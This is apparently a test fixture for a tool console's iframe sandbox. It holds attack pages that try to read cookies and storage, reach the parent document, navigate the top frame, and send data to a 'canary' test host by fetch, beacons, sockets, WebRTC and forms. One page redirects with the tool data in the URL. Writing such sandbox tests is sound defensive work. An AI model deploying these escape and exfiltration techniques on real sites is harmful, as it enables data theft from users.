// Pages that try to get out of where they are shown. `TARGETS` is filled in by the page that runs them: `canary` is a server that
// must never be asked, `stun` is one that must get no packet, and `own` is the console's address.

/** Runs attempts by name, and writes how each ended into the page: "refused: …", or "OPEN: …" for what must not happen. */
const RUNNER = `
  const outcomes = {};
  const attempt = async (name, work) => {
    try {
      const got = await work();
      outcomes[name] = got === undefined ? "refused: nothing happened" : "OPEN: " + String(got).slice(0, 200);
    } catch (cause) {
      outcomes[name] = "refused: " + (cause && cause.name);
    }
  };
  /** An element that would load something. */
  const loads = (tag, set) => new Promise((done, fail) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => fail(new Error("not loaded"));
    set(element);
    document.body.append(element);
    setTimeout(() => done(undefined), 700);
  });
  const heard = [];
  addEventListener("message", (event) => heard.push(event.data));
  const finish = () => {
    const output = document.createElement("output");
    output.id = "outcomes";
    output.textContent = JSON.stringify({ outcomes, heard, origin: String(self.origin), data: window.__TOOL_DATA__ ?? null });
    document.body.append(output);
  };
`;

/** What both a page of a toolset and a page of another server must not be able to do. */
const COMMON = `
  await attempt("cookies", () => { document.cookie = "a=1"; return document.cookie; });
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.getItem("pegboard-token"));
  await attempt("indexedDB", () => new Promise((done, fail) => {
    const asked = indexedDB.open("a");
    asked.onsuccess = () => done("a database");
    asked.onerror = () => fail(asked.error);
  }));
  await attempt("parent's document", () => parent.document.title);
  await attempt("top's document", () => top.document.title);
  await attempt("parent's storage", () => parent.sessionStorage.length);
  await attempt("parent's address", () => parent.location.href);
  await attempt("frame element", () => window.frameElement?.ownerDocument.title);
  await attempt("top navigation", () => { top.location = TARGETS.canary + "/top"; });
  await attempt("parent navigation", () => { parent.location = TARGETS.canary + "/parent"; });
  await attempt("link to the top", () => {
    const link = Object.assign(document.createElement("a"), { href: TARGETS.canary + "/link", target: "_top" });
    document.body.append(link);
    link.click();
  });
  await attempt("pop-up", () => window.open(TARGETS.canary + "/popup") ?? undefined);
  await attempt("dialog", () => (window.confirm("Give me your token") ? "a dialog" : undefined));
`;

/** A page of a toolset: it has no network at all. */
export const ARTIFACT = `<!doctype html>
<html lang="en"><head><title>Attack</title><style>@import url("http://127.0.0.1:1/early.css");</style></head>
<body><h1>Attack</h1><div style="height: 5000px"></div>
<script type="module">
  const TARGETS = window.__TOOL_DATA__;
  ${RUNNER}
  ${COMMON}
  await attempt("service worker", () => navigator.serviceWorker.register(TARGETS.own + "/frame.js"));
  await attempt("caches", () => caches.open("a"));
  await attempt("fetch elsewhere", () => fetch(TARGETS.canary + "/fetch", { mode: "no-cors" }));
  await attempt("fetch of the API", () => fetch(TARGETS.own + "/api/tools", { headers: { "X-Workspace-Id": "demo" } }));
  await attempt("XMLHttpRequest", () => new Promise((done, fail) => {
    const asked = new XMLHttpRequest();
    asked.onload = () => done("loaded");
    asked.onerror = () => fail(new Error("not loaded"));
    asked.open("GET", TARGETS.canary + "/xhr");
    asked.send();
  }));
  await attempt("beacon", () => { navigator.sendBeacon(TARGETS.canary + "/beacon", "x"); });
  await attempt("web socket", () => new Promise((done, fail) => {
    const socket = new WebSocket(TARGETS.canary.replace("http", "ws") + "/socket");
    socket.onopen = () => done("connected");
    socket.onerror = () => fail(new Error("not connected"));
  }));
  await attempt("event source", () => new Promise((done, fail) => {
    const source = new EventSource(TARGETS.canary + "/events");
    source.onopen = () => done("connected");
    source.onerror = () => fail(new Error("not connected"));
  }));
  // The packets go to a server of the page's choice, so only that server tells whether they left.
  await attempt("peer connection", () => new Promise((done) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: TARGETS.stun }] });
    connection.createDataChannel("a");
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    setTimeout(() => done(undefined), 1500);
  }));
  await attempt("import", () => import(TARGETS.canary + "/module.js"));
  await attempt("import of data", () => import("data:text/javascript,export default 1"));
  await attempt("eval", () => eval("1 + 1"));
  await attempt("Function", () => new Function("return 2")());
  await attempt("worker", () => new Promise((done, fail) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => done("a worker");
    worker.onerror = () => fail(new Error("no worker"));
  }));
  await attempt("script", () => loads("script", (it) => { it.src = TARGETS.canary + "/script.js"; }));
  await attempt("own script", () => loads("script", (it) => { it.src = TARGETS.own + "/frame.js"; }));
  await attempt("picture", () => loads("img", (it) => { it.src = TARGETS.canary + "/picture.png"; }));
  await attempt("own picture", () => loads("img", (it) => { it.src = TARGETS.own + "/favicon.svg"; }));
  await attempt("style sheet", () => loads("link", (it) => { it.rel = "stylesheet"; it.href = TARGETS.canary + "/style.css"; }));
  await attempt("prefetch", () => loads("link", (it) => { it.rel = "prefetch"; it.href = TARGETS.canary + "/prefetch"; }));
  await attempt("background", () => {
    document.body.style.backgroundImage = "url(" + TARGETS.canary + "/background.png)";
    return new Promise((done) => setTimeout(() => done(undefined), 100));
  });
  await attempt("font", () => new FontFace("a", "url(" + TARGETS.canary + "/font.woff)").load());
  await attempt("film", () => loads("video", (it) => { it.src = TARGETS.canary + "/film.mp4"; it.onloadeddata = it.onload; }));
  await attempt("object", () => loads("object", (it) => { it.data = TARGETS.canary + "/object"; }).then((it) => { if (it) return it; }));
  // A frame that is refused loads an error page, so only the server tells whether it was asked.
  await attempt("frame", () => loads("iframe", (it) => { it.src = TARGETS.canary + "/frame"; }).then(() => undefined));
  await attempt("base", () => {
    document.head.append(Object.assign(document.createElement("base"), { href: TARGETS.canary + "/" }));
    return document.baseURI.startsWith(TARGETS.canary) ? "another base" : undefined;
  });
  await attempt("form", () => {
    const form = Object.assign(document.createElement("form"), { action: TARGETS.canary + "/form", method: "post" });
    document.body.append(form);
    form.submit();
  });
  // The console must take these for what they are: no messages to it.
  for (const lie of ["ready", { url: TARGETS.canary + "/lie" }, { height: "1e9" }, { height: 1e9 }, { height: NaN }, null, [9]]) parent.postMessage(lie, "*");
  finish();
</script></body></html>`;

/** Pages of a toolset that leave for another site, each in its own way. */
export const LEAVERS = {
  script: "<!doctype html><title>Leaves</title><body><script>location = window.__TOOL_DATA__.canary + '/left-by-script?' + JSON.stringify(window.__TOOL_DATA__)</script>",
  refresh: "<!doctype html><title>Leaves</title><body><script>document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0;url=' + window.__TOOL_DATA__.canary + '/left-by-refresh'}))</script>",
  link: "<!doctype html><title>Leaves</title><body><script>const link = Object.assign(document.createElement('a'), {href: window.__TOOL_DATA__.canary + '/left-by-link'}); document.body.append(link); link.click()</script>",
};

/** A page of another server, which /frame shows. It may use its own network, and nothing of the console. */
export const FOREIGN_PAGE = `<!doctype html>
<html lang="en"><head><title>Elsewhere</title></head><body><h1>Elsewhere</h1>
<script type="module">
  const TARGETS = { canary: location.origin };
  ${RUNNER}
  ${COMMON}
  for (const target of [parent, top]) for (const lie of ["ready", { url: TARGETS.canary + "/lie", title: "x" }, { height: 5 }]) target.postMessage(lie, "*");
  finish();
</script></body></html>`;
